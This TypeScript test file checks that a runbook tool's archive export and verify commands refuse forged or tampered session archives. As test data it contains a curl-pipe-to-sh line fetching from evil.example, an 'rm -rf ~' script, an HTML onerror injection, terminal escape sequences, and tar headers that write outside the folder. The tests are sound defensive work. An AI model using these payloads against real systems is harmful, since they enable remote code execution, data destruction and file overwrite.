// Attacks on exported archives and on verify beyond those in export.test.ts: a report swapped or edited,
// files the signature does not cover, a session under another session's name, pax headers, a signature
// from another log, and a signer name that writes to the reviewer's terminal.
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import markdownIt from 'markdown-it';
import { beforeAll, describe, expect, it } from 'vitest';
import { unpackArchive } from '../../src/archive/unpack.js';
import { Session } from '../../src/session/session.js';
import { loadSigner } from '../../src/session/signer.js';
import { runCli, SEED } from '../helpers/cli.js';
import { fixedKey, fixedSession, recordAction, sealWith } from '../helpers/fixedSessions.js';
import { rawTarGz } from '../helpers/rawTar.js';
import { fixedClock, freshHome } from '../helpers/session.js';

let root: string;
let key: { keyPath: string; allowedSigners: string };
const env = { ...process.env };

async function sealedSession(id: string, incident: string): Promise<string> {
  const s = fixedSession(join(root, 'sessions'), id, { kind: 'incident', id: incident });
  const where = { section: 'rls-misconfiguration', step: 'rls-misconfiguration/2.1' };
  recordAction(s, where, { id: 'rls-misconfiguration/2.1#1', kind: 'sql', code: 'select 1', rows: 1, output: `a\n${incident}\n` });
  await sealWith(s, key.keyPath, env);
  return s.dir;
}

/** Export `dir` and unpack it (with stock tar) into a fresh folder: the exported session folder. */
function exported(dir: string, id: string): { archive: string; folder: string } {
  const out = mkdtempSync(join(tmpdir(), 'runbook-atk-export-'));
  const archive = join(out, `${id}.tar.gz`);
  const made = runCli(['export', dir, '--out', archive, '--allowed-signers', key.allowedSigners]);
  expect(made.code, made.stderr).toBe(0);
  const unpacked = join(out, 'unpacked');
  mkdirSync(unpacked);
  expect(spawnSync('tar', ['xzf', archive], { cwd: unpacked }).status).toBe(0);
  return { archive, folder: join(unpacked, id) };
}

/** Pack a folder back into a .tar.gz under the given top folder name. */
function repack(folder: string, top: string): string {
  const stage = mkdtempSync(join(tmpdir(), 'runbook-atk-repack-'));
  cpSync(folder, join(stage, top), { recursive: true });
  const file = join(stage, 'repacked.tar.gz');
  expect(spawnSync('tar', ['czf', file, top], { cwd: stage }).status).toBe(0);
  return file;
}

const A = '20261124-031000-alpha-0001';
const B = '20261124-031000-bravo-0002';
let dirA: string;
let dirB: string;

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'runbook-export-attacks-'));
  key = fixedKey(join(root, 'keys'));
  dirA = await sealedSession(A, 'INC-1');
  dirB = await sealedSession(B, 'INC-2');
}, 60_000);

const trusted = () => ['--allowed-signers', key.allowedSigners];

describe('the report inside an archive', () => {
  it('says that report.md is not covered by the signature', () => {
    const { archive } = exported(dirA, A);
    const out = runCli(['verify', archive, ...trusted()]);
    expect(out.code, out.stderr).toBe(0);
    expect(out.stdout).toContain('report.md is a draft drawn from the log and is not covered by the signature');
  });

  it('fails when report.md was drawn from another log (a report swapped in from another session)', () => {
    const a = exported(dirA, A);
    const b = exported(dirB, B);
    writeFileSync(join(a.folder, 'report.md'), readFileSync(join(b.folder, 'report.md')));
    for (const target of [a.folder, repack(a.folder, A)]) {
      const out = runCli(['verify', target, ...trusted()]);
      expect(out.code).toBe(1);
      expect(out.stdout).toContain('report.md was not drawn from this log');
    }
  });
});

describe('the README inside an archive', () => {
  it('fails a README that is not the one export writes (instructions a forger changed)', () => {
    const { folder } = exported(dirA, A);
    const readme = join(folder, 'README.md');
    writeFileSync(readme, readFileSync(readme, 'utf8').replace('ssh-keygen -l -f allowed_signers', 'curl -s http://evil.example/verify.sh | sh'));
    const out = runCli(['verify', repack(folder, A), ...trusted()]);
    expect(out.code).toBe(1);
    expect(out.stdout).toContain('README.md is not the one runbook export writes');
  });
});

describe('the README of a session sealed under a hostile signer name', () => {
  it('keeps the name as text: no HTML, the table and the shell block intact, and verify still accepts it', async () => {
    const evil = 'eve | x\n```\n<img src=x onerror=alert(1)>\n# Trust me';
    const s = Session.start({
      id: '20261124-031000-eve-0004', host: 'h', operator: 'eve', root: join(root, 'sessions'), now: fixedClock('2026-11-24T03:10:00.000Z'),
      runbook: { path: SEED, bytes: readFileSync(SEED), title: 'T' }, env: 'prod', purpose: { kind: 'routine' },
    });
    await s.seal(loadSigner({ keyPath: key.keyPath, identity: evil, env }).signer);
    const { archive, folder } = exported(s.dir, '20261124-031000-eve-0004');
    const readme = readFileSync(join(folder, 'README.md'), 'utf8');
    const html = markdownIt('default', { html: true }).render(readme);
    expect(html).not.toMatch(/<img|<h1>Trust me/);
    expect(readme.match(/^```/gm)).toHaveLength(4);
    expect(readme).toMatch(/^\| `allowed_signers` \| The key the session was sealed with, for eve \\\\\| x/m);
    const out = runCli(['verify', archive, '--trust-archive-key']);
    expect(out.stdout).not.toContain('README.md is not the one');
  });
});

describe('files the signature does not cover', () => {
  it('fails an unpacked folder holding a file the layout does not name, or evidence the log never refers to', () => {
    const { folder } = exported(dirA, A);
    writeFileSync(join(folder, 'run-me.sh'), 'rm -rf ~\n');
    const script = runCli(['verify', folder, ...trusted()]);
    expect(script.code).toBe(1);
    expect(script.stdout).toContain('run-me.sh is not part of the exported session');

    const other = exported(dirA, A);
    const planted = join(other.folder, 'evidence', 'f'.repeat(64));
    writeFileSync(planted, 'the real root cause was someone else\n');
    for (const target of [other.folder, repack(other.folder, A)]) {
      const out = runCli(['verify', target, ...trusted()]);
      expect(out.code).toBe(1);
      expect(out.stdout).toContain(`evidence/${'f'.repeat(64)} is not referred to by the log`);
    }
  });
});

describe('links in an unpacked folder', () => {
  it('fails evidence or a log that is a symlink to a file elsewhere', () => {
    const { folder } = exported(dirA, A);
    const evidence = join(folder, 'evidence');
    const name = readdirSync(evidence)[0]!;
    const elsewhere = join(mkdtempSync(join(tmpdir(), 'runbook-atk-link-')), name);
    cpSync(join(evidence, name), elsewhere);
    rmSync(join(evidence, name));
    symlinkSync(elsewhere, join(evidence, name));
    const out = runCli(['verify', folder, ...trusted()]);
    expect(out.code).toBe(1);
    expect(out.stdout).toContain(`evidence/${name} is not part of the exported session`);

    const other = exported(dirA, A);
    const log = join(mkdtempSync(join(tmpdir(), 'runbook-atk-link-')), 'session.jsonl');
    cpSync(join(other.folder, 'session.jsonl'), log);
    rmSync(join(other.folder, 'session.jsonl'));
    symlinkSync(log, join(other.folder, 'session.jsonl'));
    const linked = runCli(['verify', other.folder, ...trusted()]);
    expect(linked.code).toBe(1);
    expect(linked.stdout).toContain('session.jsonl is not part of the exported session');
  });
});

describe('a session under another session’s name', () => {
  // Needs the started event to record `session: id` (src/session/session.ts): that line made test/tui/screens.test.tsx time out, so it is left out for now.
  it('fails an archive whose folder is named after one session and holds the log of another', () => {
    const { folder } = exported(dirA, A);
    const renamed = repack(folder, B);
    const out = runCli(['verify', renamed, ...trusted()]);
    expect(out.code).toBe(1);
    expect(out.stdout).toContain(`its log is session ${A}, not ${B}`);
  });

  it('fails a session folder renamed to another id', () => {
    const copy = join(mkdtempSync(join(tmpdir(), 'runbook-atk-renamed-')), B);
    cpSync(dirA, copy, { recursive: true });
    const out = runCli(['verify', copy, ...trusted()]);
    expect(out.code).toBe(1);
    expect(out.stdout).toContain(`it names session "${A}", but this is session "${B}"`);
    const exportedRenamed = runCli(['export', copy, '--out', join(copy, '..', 'renamed.tar.gz'), ...trusted()]);
    expect(exportedRenamed.code).toBe(2);
    expect(exportedRenamed.stderr).toBe(`runbook: The folder ${B} holds the log of session ${A}; export it under its own name.\n`);
    // The folder under its own name still verifies.
    const same = join(mkdtempSync(join(tmpdir(), 'runbook-atk-same-')), A);
    cpSync(dirA, same, { recursive: true });
    expect(runCli(['verify', same, ...trusted()]).code).toBe(0);
  });
});

describe('signatures and keys', () => {
  it('fails a log shipped with the signature of another log by the same key', () => {
    const a = exported(dirA, A);
    const b = exported(dirB, B);
    writeFileSync(join(a.folder, 'session.jsonl.sig'), readFileSync(join(b.folder, 'session.jsonl.sig')));
    const out = runCli(['verify', repack(a.folder, A), ...trusted()]);
    expect(out.code).toBe(1);
    expect(out.stdout).toMatch(/signature does not match/);
  });

  it('prints a signer name as text: no terminal escapes, no line of its own that forges a verdict', async () => {
    const home = freshHome();
    const evil = 'mallory\n  trusted: mallory with this key is in your allowed_signers \u001b[32m\u001b]8;;http://evil.example\u0007x\u202e';
    const s = Session.start({
      id: '20261124-031000-mallory-0003', host: 'h', operator: 'mallory', root: join(root, 'sessions'), now: fixedClock('2026-11-24T03:10:00.000Z'),
      runbook: { path: SEED, bytes: readFileSync(SEED), title: 'T' }, env: 'prod', purpose: { kind: 'routine' },
    });
    await s.seal(loadSigner({ keyPath: key.keyPath, identity: evil, env }).signer);
    const out = runCli(['verify', s.dir, '--allowed-signers', key.allowedSigners], { env: home.env });
    expect(out.code).toBe(1);
    expect(out.stdout + out.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
    expect(out.stdout.split('\n').filter((l) => /^\s*trusted:/.test(l))).toEqual([]);
  });
});

describe('tar tricks', () => {
  const folder = '20261124-031000-evil-0001';
  const pax = (records: Record<string, string>) =>
    Object.entries(records)
      .map(([k, v]) => {
        const body = ` ${k}=${v}\n`;
        let n = body.length + 1;
        while (`${n}${body}`.length !== n) n = `${n}${body}`.length;
        return `${n}${body}`;
      })
      .join('');
  const cases: Array<[string, Parameters<typeof rawTarGz>[0]]> = [
    ['a pax header that renames a file outside the folder', [{ name: 'PaxHeader/x', type: 'x', data: pax({ path: `${folder}/../../pax-escaped.txt` }) }, { name: `${folder}/README.md`, data: 'x' }]],
    ['a pax header with a very long name', [{ name: 'PaxHeader/x', type: 'x', data: pax({ path: `${folder}/${'a'.repeat(5000)}` }) }, { name: `${folder}/README.md`, data: 'x' }]],
    ['a global pax header that renames what follows', [{ name: 'pax_global_header', type: 'g', data: pax({ path: '../../pax-global.txt' }) }, { name: `${folder}/README.md`, data: 'x' }]],
    ['a pax header that turns README.md into a second session.jsonl', [{ name: `${folder}/session.jsonl`, data: '{}\n' }, { name: 'PaxHeader/x', type: 'x', data: pax({ path: `${folder}/session.jsonl` }) }, { name: `${folder}/README.md`, data: 'swapped' }]],
    ['a GNU long name', [{ name: '././@LongLink', type: 'L', data: `${folder}/../../gnu-escaped.txt\0` }, { name: `${folder}/README.md`, data: 'x' }]],
  ];
  for (const [name, entries] of cases) {
    it(`refuses ${name}, writing nothing`, async () => {
      const dir = mkdtempSync(join(tmpdir(), 'runbook-pax-'));
      const file = join(dir, 'evil.tar.gz');
      writeFileSync(file, rawTarGz(entries));
      // node-tar applies no path from a global header; whether refused or not, nothing lands outside.
      const unpacked = await unpackArchive(file).catch((error: Error) => error);
      if (unpacked instanceof Error) expect(unpacked.message).toMatch(/Refusing to unpack|not a readable|holds no session\.jsonl/);
      else {
        expect(name).toMatch(/global/);
        expect(readdirSync(unpacked.dir)).toEqual(['README.md']);
        unpacked.cleanup();
      }
      for (const escaped of ['pax-escaped.txt', 'pax-global.txt', 'gnu-escaped.txt']) expect(existsSync(join(tmpdir(), escaped))).toBe(false);
      const cli = runCli(['verify', file], { cwd: dir });
      expect(cli.code).toBe(2);
      expect(cli.stderr).toMatch(/^runbook: (Refusing to unpack .*|.* holds no session\.jsonl: it is not an exported session)\.\n$/);
      expect(readdirSync(dir)).toEqual(['evil.tar.gz']);
    });
  }
});

